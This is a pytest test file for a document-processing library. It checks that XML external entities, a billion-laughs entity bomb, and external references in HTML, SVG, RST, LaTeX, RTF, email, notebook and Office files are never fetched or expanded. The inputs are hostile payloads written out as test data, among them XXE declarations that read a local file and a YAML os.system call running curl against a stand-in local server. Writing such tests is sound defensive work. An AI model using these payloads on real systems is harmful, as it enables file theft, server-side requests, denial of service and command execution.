"""Documents that ask for what is outside of them: nothing is fetched, nothing is expanded."""

import io
import socket
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from support.writers import office_writer

from gristmill.pipeline.process import process
from gristmill.pipeline.shapes import Blob, Limits
from gristmill.schemas.jobs.options import Options
from gristmill.schemas.problems.errors import DocumentError

EXAMPLES = Path(__file__).parents[4] / "examples" / "documents"
TABLE = "<table:table><table:table-row><table:table-cell><text:p>Flour</text:p>"
PACKAGES = {
    **{
        name: (EXAMPLES / name).read_bytes()
        for name in ("minutes.docx", "school-visit.pptx", "ledger.xlsx", "tales.epub")
    },
    "apprentice.odt": (EXAMPLES / "apprentice.odt").read_bytes(),
    "small.ods": office_writer.odf(
        "spreadsheet", TABLE + "</table:table-cell></table:table-row></table:table>"
    ),
    "small.odp": office_writer.odf("presentation", "<text:p>Flour</text:p>"),
}
PARTS = [
    (name, part)
    for name, data in PACKAGES.items()
    for part in zipfile.ZipFile(io.BytesIO(data)).namelist()
    if part.endswith((".xml", ".rels", ".opf", ".xhtml", ".ncx"))
]


class Outside:
    """A server that must never be asked, and a file that must never be read."""

    def __init__(self, folder: Path) -> None:
        self._listener = socket.create_server(("127.0.0.1", 0))
        self._listener.setblocking(False)
        self.url = f"http://127.0.0.1:{self._listener.getsockname()[1]}/mill"
        secret = folder / "secret.txt"
        secret.write_text("the miller's gold")
        self.file = secret.as_uri()

    def asked(self) -> bool:
        try:
            self._listener.accept()
        except BlockingIOError:
            return False
        return True

    def close(self) -> None:
        self._listener.close()


@pytest.fixture
def outside(tmp_path: Path) -> Iterator[Outside]:
    server = Outside(tmp_path)
    yield server
    server.close()


def text_of(data: bytes, name: str) -> str:
    """Everything that the library would store, or the refusal's code."""
    try:
        content = process(Blob(data, name), Options(), Limits())
    except DocumentError as error:
        assert error.document_code in ("parse_error", "too_large", "empty"), error
        return error.document_code
    return f"{content.title} {content.metadata} {' '.join(c.text for c in content.chunks)}"


def doctype(outside: Outside) -> bytes:
    """Entities from outside, by two ways, and one that laughs a billion times."""
    laughs = "".join(f'<!ENTITY l{n + 1} "{f"&l{n};" * 10}">' for n in range(10))
    return (
        f'<!DOCTYPE x SYSTEM "{outside.url}.dtd" [<!ENTITY % p SYSTEM "{outside.url}.ent"> %p;'
        f'<!ENTITY f SYSTEM "{outside.file}"><!ENTITY h SYSTEM "{outside.url}">'
        f'<!ENTITY l0 "ha">{laughs}]>'
    ).encode()


def infected(xml: bytes, outside: Outside) -> bytes:
    """`xml` with these entities declared, and used in all of its texts."""
    declaration, mark, rest = xml.partition(b"?>")
    if not xml.lstrip().startswith(b"<?xml"):
        declaration, mark, rest = b"", b"", xml
    return declaration + mark + doctype(outside) + rest.replace(b"</", b"&f;&h;&l10;</")


@pytest.mark.parametrize(("name", "part"), PARTS, ids=[f"{n}-{p}" for n, p in PARTS])
def test_entities_in_any_part_of_a_package_reach_nothing(
    name: str, part: str, outside: Outside
) -> None:
    with zipfile.ZipFile(io.BytesIO(PACKAGES[name])) as archive:
        members: dict[str, str | bytes] = {each: archive.read(each) for each in archive.namelist()}
    original = members[part]
    assert isinstance(original, bytes)
    members[part] = infected(original, outside)
    text = text_of(office_writer.zipped(members), name)
    assert "gold" not in text and "hahahaha" not in text
    assert not outside.asked()


@pytest.mark.parametrize(
    ("name", "source"),
    [
        ("a.xml", b"<?xml version='1.0'?><mill><wheel>It turns.</wheel></mill>"),
        ("a.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><text>It turns.</text></svg>"),
        ("a.rss", b"<rss><channel><item><title>It turns.</title></item></channel></rss>"),
        ("a.rdf", b"<RDF><mill><p>It turns.</p></mill></RDF>"),
        ("a.html", b"<html><body><p>It turns.</p></body></html>"),
        ("a.xhtml", b"<?xml version='1.0'?><html><body><p>It turns.</p></body></html>"),
    ],
)
def test_entities_of_a_lone_file_reach_nothing(name: str, source: bytes, outside: Outside) -> None:
    text = text_of(infected(source, outside), name)
    assert "gold" not in text and "hahahaha" not in text
    assert not outside.asked()


REFERENCES = {
    "a.html": "<html><head><base href='{0}'><link rel=stylesheet href='{0}'><script src='{0}'>"
    "</script><meta http-equiv=refresh content='0;url={0}'></head><body background='{0}'><nav>"
    "</nav><img src='{0}'><iframe src='{0}'></iframe><object data='{0}'></object><embed src='{0}'>"
    "<video src='{0}'></video><p>It turns.</p></body></html>",
    "a.xml": "<?xml version='1.0'?><?xml-stylesheet href='{0}' type='text/xsl'?><a "
    "xmlns:xi='http://www.w3.org/2001/XInclude' xmlns:s='http://www.w3.org/2001/XMLSchema-instance'"
    " s:noNamespaceSchemaLocation='{0}'><xi:include href='{0}'/><xi:include href='{1}' "
    "parse='text'/><b>It turns.</b></a>",
    "a.svg": "<svg xmlns='http://www.w3.org/2000/svg' xmlns:x='http://www.w3.org/1999/xlink'>"
    "<image x:href='{0}'/><use x:href='{0}#a'/><text>It turns.</text></svg>",
    "a.md": "![wheel]({0})\n\n<img src='{0}'>\n\n[ref]: {0}\n\nIt turns.\n",
    "a.rst": ".. include:: {1}\n\n.. image:: {0}\n\n.. csv-table::\n   :url: {0}\n\nIt turns.\n",
    "a.tex": "\\documentclass{{a}}\n\\input{{{1}}}\\include{{{0}}}\\includegraphics{{{0}}}It",
    "a.yaml": "a: !!python/object/apply:os.system ['curl {0}']\nb: !include {1}\nc:\n  - d\n",
    "a.rtf": '{{\\rtf1 {{\\field{{\\*\\fldinst INCLUDEPICTURE "{0}"}}}}{{\\object\\objlink '
    "{{\\*\\objdata {0}}}}}It turns.}}",
    "a.eml": "From: a@mill.example\nTo: b@mill.example\nSubject: x\nMIME-Version: 1.0\n"
    'Content-Type: message/external-body; access-type=URL; URL="{0}"\n\n\nIt turns.\n',
    "a.ipynb": '{{"nbformat": 4, "cells": [{{"cell_type": "markdown", "source": "![a]({0})"}}]}}',
}


@pytest.mark.parametrize("name", REFERENCES)
def test_what_a_document_refers_to_is_never_fetched(name: str, outside: Outside) -> None:
    text = text_of(REFERENCES[name].format(outside.url, outside.file).encode(), name)
    assert "gold" not in text
    assert not outside.asked()


def test_external_parts_of_a_package_are_never_fetched(outside: Outside) -> None:
    relations = "".join(
        f'<Relationship Id="r{kind}" Type="{office_writer.OFFICE}/{kind}" TargetMode="External" '
        f'Target="{target}"/>'
        for kind in ("styles", "attachedTemplate", "image", "footnotes", "header")
        for target in (outside.url, outside.file)
    )
    data = office_writer.docx(
        office_writer.paragraph("It turns."),
        {
            "word/_rels/document.xml.rels": f'<Relationships xmlns="{office_writer.PACKAGE}/'
            f'relationships">{relations}</Relationships>',
            "word/_rels/settings.xml.rels": f'<Relationships xmlns="{office_writer.PACKAGE}/'
            f'relationships">{relations}</Relationships>',
        },
    )
    assert "It turns." in text_of(data, "a.docx")
    assert not outside.asked()
